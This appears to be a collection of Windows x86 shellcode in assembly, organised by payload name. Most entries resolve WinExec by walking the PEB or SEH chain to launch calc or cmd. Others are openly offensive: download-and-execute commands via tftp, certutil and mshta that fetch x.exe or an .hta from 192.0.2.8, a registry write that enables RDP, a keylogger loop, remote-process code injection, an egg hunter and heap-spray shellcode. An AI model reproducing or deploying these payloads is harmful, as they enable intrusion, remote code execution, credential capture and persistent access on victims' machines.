; Windows, 32 bit: further walks to kernel32, addresses of other versions, programs that fetch and start others, the
; registry, keys, other processes.

;= w32_ordinal_peb_hash_winexec 32 | windows x86 | execute calc
	xor edi, edi
	mov eax, [fs:edi + 0x30]
	mov eax, [eax + 0xc]
	mov esi, [eax + 0x1c]
next:	mov ebp, [esi + 8]
	mov eax, [esi + 0x20]
	mov esi, [esi]
	cmp byte [eax + 6 * 2], '3'
	jne next
	mov eax, [ebp + 0x3c]
	mov ecx, [ebp + eax + 0x78]
	add ecx, ebp
	mov ebx, [ecx + 0x20]
	add ebx, ebp
look:	inc edi
	mov esi, [ebx + edi * 4]
	add esi, ebp
	cmp dword [esi], 'WinE'
	jnz look
	mov ebx, [ecx + 0x24]
	add ebx, ebp
	mov di, [ebx + edi * 2]
	mov ebx, [ecx + 0x1c]
	add ebx, ebp
	mov edi, [ebx + edi * 4]
	add edi, ebp
	xor eax, eax
	push eax
	push dword 'calc'
	mov ecx, esp
	inc eax
	push eax
	push ecx
	call edi

;= w32_xp_sp1_kernel 32 | windows x86 | call 77e6fd35
	xor eax, eax
	push eax
	push dword '.exe'
	push dword 'calc'
	push esp
	pop ebx
	push eax
	push ebx
	mov eax, 0x77e6fd35
	call eax

;= w32_2000_sp4 32 | windows x86 | call 7c583ffd
	push ebp
	mov ebp, esp
	xor edi, edi
	push edi
	sub esp, byte 4
	mov byte [ebp - 8], 'c'
	mov byte [ebp - 7], 'm'
	mov byte [ebp - 6], 'd'
	mov byte [ebp - 5], 0
	lea eax, [ebp - 8]
	push edi
	push eax
	mov eax, 0x7c583ffd
	call eax

;= w32_vista_msgbox 32 | windows x86 | call 77d7d7ea
	xor ecx, ecx
	push ecx
	push dword 0x6c6c642e
	push dword 'er32'
	push word 'us'
	mov eax, esp
	push eax
	mov eax, 0x77e41d77
	call eax
	xor ecx, ecx
	push ecx
	push dword 'ello'
	mov eax, esp
	push ecx
	push eax
	push eax
	push ecx
	mov eax, 0x77d7d7ea
	call eax

;= w32_win7_7ffe 32 | windows x86 | execute calc.exe
	mov eax, [fs:0x18]
	mov eax, [eax + 0x30]
	mov eax, [eax + 0x0c]
	mov eax, [eax + 0x0c]
	mov eax, [eax]
	mov eax, [eax]
	mov ebx, [eax + 0x18]
	mov edx, [ebx + 0x3c]
	add edx, ebx
	mov edx, [edx + 0x78]
	add edx, ebx
	mov esi, [edx + 0x20]
	add esi, ebx
	xor ecx, ecx
f:	lodsd
	add eax, ebx
	inc ecx
	cmp dword [eax], 'WinE'
	jne f
	mov esi, [edx + 0x1c]
	add esi, ebx
	mov edi, [edx + 0x24]
	add edi, ebx
	movzx ecx, word [edi + ecx * 2 - 2]
	mov eax, [esi + ecx * 4]
	add eax, ebx
	push byte 0
	push dword '.exe'
	push dword 'calc'
	mov ecx, esp
	push byte 5
	push ecx
	call eax

;= w32_seh_top_kernel 32 | windows x86 | execute calc
	xor ecx, ecx
	mov esi, [fs:ecx]
walk:	lodsd
	cmp eax, -1
	je found
	xchg esi, eax
	jmp walk
found:	lodsd
down:	dec eax
	xor ax, ax
	cmp word [eax], 'MZ'
	jne down
	xchg ebx, eax
	mov edx, [ebx + 0x3c]
	mov edx, [ebx + edx + 0x78]
	add edx, ebx
	mov esi, [edx + 0x20]
	add esi, ebx
	xor ecx, ecx
f:	lodsd
	add eax, ebx
	inc ecx
	cmp dword [eax], 'WinE'
	jne f
	mov edi, [edx + 0x24]
	add edi, ebx
	movzx ecx, word [edi + ecx * 2 - 2]
	mov edi, [edx + 0x1c]
	add edi, ebx
	mov eax, [edi + ecx * 4]
	add eax, ebx
	push byte 0
	push dword 'calc'
	mov ecx, esp
	push byte 1
	push ecx
	call eax

;= w32_download_tftp 32 | windows x86 | execute tftp -i 192.0.2.8 get x.exe
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH wexec, 'WinExec'
HASH exitp, 'ExitProcess'
	RESOLVER
	push byte 0
	lea eax, AT(c)
	push eax
	CALL_API ebx, wexec
	push byte 0
	CALL_API ebx, exitp
c:	db 'cmd /c tftp -i 192.0.2.8 get x.exe & x.exe', 0

;= w32_file_ops 32 | windows x86 | write
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH create, 'CreateFileA'
HASH write, 'WriteFile'
HASH close, 'CloseHandle'
HASH wexec, 'WinExec'
	RESOLVER
	push byte 0
	push byte 0x26
	push byte 2
	push byte 0
	push byte 0
	push dword 0x40000000
	lea eax, AT(n)
	push eax
	CALL_API ebx, create
	mov esi, eax
	push byte 0
	push esp
	push byte 6
	lea eax, AT(d)
	push eax
	push esi
	CALL_API ebx, write
	push esi
	CALL_API ebx, close
	push byte 0
	lea eax, AT(n)
	push eax
	CALL_API ebx, wexec
n:	db 'c:\boot.vbs', 0
d:	db 'a = 1', 10, 0

;= w32_registry_rdp 32 | windows x86 | call fDenyTSConnections
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH regc, 'RegCreateKeyExA'
HASH regs, 'RegSetValueExA'
HASH regx, 'RegCloseKey'
	RESOLVER
	LOAD lib
	mov esi, eax
	push byte 0
	mov edi, esp
	push byte 0
	push edi
	push byte 0
	push dword 0xf003f
	push byte 0
	push byte 0
	push byte 0
	lea eax, AT(k)
	push eax
	push dword 0x80000002
	CALL_API esi, regc
	push byte 4
	lea eax, AT(z)
	push eax
	push byte 4
	push byte 0
	lea eax, AT(v)
	push eax
	push dword [edi]
	CALL_API esi, regs
	ret
lib:	db 'advapi32', 0
k:	db 'System\CurrentControlSet\Control\Terminal Server', 0
v:	db 'fDenyTSConnections', 0
z:	dd 0

;= w32_keylog 32 | windows x86 | -
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH key, 'GetAsyncKeyState'
HASH slp, 'Sleep'
	RESOLVER
	LOAD lib
	mov esi, eax
again:	push byte 8
	pop edi
k:	push edi
	CALL_API esi, key
	inc edi
	cmp edi, 190
	jne k
	push byte 10
	CALL_API ebx, slp
	jmp again
lib:	db 'user32', 0

;= w32_inject 32 | windows x86 | -
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH op, 'OpenProcess'
HASH va, 'VirtualAllocEx'
HASH wp, 'WriteProcessMemory'
HASH ct, 'CreateRemoteThread'
	RESOLVER
	push dword 1234
	push byte 0
	push dword 0x1f0fff
	CALL_API ebx, op
	mov esi, eax
	push byte 0x40
	push dword 0x3000
	push dword 0x100
	push byte 0
	push esi
	CALL_API ebx, va
	mov edi, eax
	push byte 0
	push dword 0x100
	lea eax, AT(c)
	push eax
	push edi
	push esi
	CALL_API ebx, wp
	push byte 0
	push byte 0
	push byte 0
	push edi
	push byte 0
	push byte 0
	push esi
	CALL_API ebx, ct
c:	ret

;= w32_certutil 32 | windows x86 | execute certutil
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH cp, 'CreateProcessA'
	RESOLVER
	sub esp, byte 0x54
	mov edi, esp
	xor eax, eax
	push byte 0x15
	pop ecx
	rep stosd
	mov edi, esp
	mov byte [edi + 16], 0x44
	push edi
	lea edx, [edi + 16]
	push edx
	push eax
	push eax
	push dword 0x08000000
	push eax
	push eax
	push eax
	lea edx, AT(c)
	push edx
	push eax
	CALL_API ebx, cp
c:	db 'certutil -urlcache -split -f http://192.0.2.8/x.exe x.exe', 0

;= w32_mshta_create_wide 32 | windows x86 | execute mshta
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH sx, 'ShellExecuteA'
	RESOLVER
	LOAD lib
	xor ecx, ecx
	push ecx
	push ecx
	lea edx, AT(u)
	push edx
	lea edx, AT(c)
	push edx
	push ecx
	push ecx
	CALL_API eax, sx
lib:	db 'shell32', 0
c:	db 'mshta', 0
u:	db 'http://192.0.2.8/x.hta', 0

;= w32_egg_seh_none 32 | windows x86 | -
	loop_inc: inc edx
	push edx
	push byte 2
	pop eax
	int 2eh
	cmp al, 5
	pop edx
	je loop_inc
	mov eax, 0x50905090
	mov edi, edx
	scasd
	jne loop_inc
	scasd
	jne loop_inc
	jmp edi

;= w32_heap_spray_jump 32 | windows x86 | execute calc.exe
	nop
	nop
	cld
	jmp short z
y:	pop ebp
	xor ebx, ebx
	mov ebx, [fs:ebx + 0x30]
	mov ebx, [ebx + 0xc]
	mov ebx, [ebx + 0x14]
	mov ebx, [ebx]
	mov ebx, [ebx]
	mov ebx, [ebx + 0x10]
	push dword 0x0e8afe98
	call s
	push byte 1
	lea ecx, [ebp]
	push ecx
	call eax
h:	jmp short h
s:	mov edi, [ebx + 0x3c]
	mov edi, [ebx + edi + 0x78]
	add edi, ebx
	mov ecx, [edi + 0x18]
	mov edx, [edi + 0x20]
	add edx, ebx
o:	dec ecx
	mov esi, [edx + ecx * 4]
	add esi, ebx
	push edi
	xor edi, edi
	xor eax, eax
m:	lodsb
	test al, al
	jz q
	ror edi, 13
	add edi, eax
	jmp m
q:	mov eax, edi
	pop edi
	cmp eax, [esp + 4]
	jne o
	mov edx, [edi + 0x24]
	add edx, ebx
	movzx ecx, word [edx + ecx * 2]
	mov edx, [edi + 0x1c]
	add edx, ebx
	mov eax, [edx + ecx * 4]
	add eax, ebx
	ret 4
z:	call y
	db 'calc.exe', 0

;= w32_utf16_names 32 | windows x86 | execute calc
	xor eax, eax
	mov eax, [fs:eax + 0x30]
	mov eax, [eax + 0xc]
	lea esi, [eax + 0xc]
	mov eax, [esi]
l:	mov edi, [eax + 0x30]
	mov ecx, [edi + 8]
	or ecx, 0x00200020
	cmp ecx, 0x006c0065
	jne n
	mov ecx, [edi]
	or ecx, 0x00200020
	cmp ecx, 0x0065006b
	je k
n:	mov eax, [eax]
	cmp eax, esi
	jne l
k:	mov ebx, [eax + 0x18]
	mov edx, [ebx + 0x3c]
	mov edx, [ebx + edx + 0x78]
	add edx, ebx
	mov esi, [edx + 0x20]
	add esi, ebx
	xor ecx, ecx
f:	lodsd
	add eax, ebx
	inc ecx
	cmp dword [eax], 'WinE'
	jne f
	mov edi, [edx + 0x24]
	add edi, ebx
	movzx ecx, word [edi + ecx * 2 - 2]
	mov edi, [edx + 0x1c]
	add edi, ebx
	mov eax, [edi + ecx * 4]
	add eax, ebx
	xor ecx, ecx
	push ecx
	push dword 'calc'
	mov edx, esp
	push ecx
	push edx
	call eax
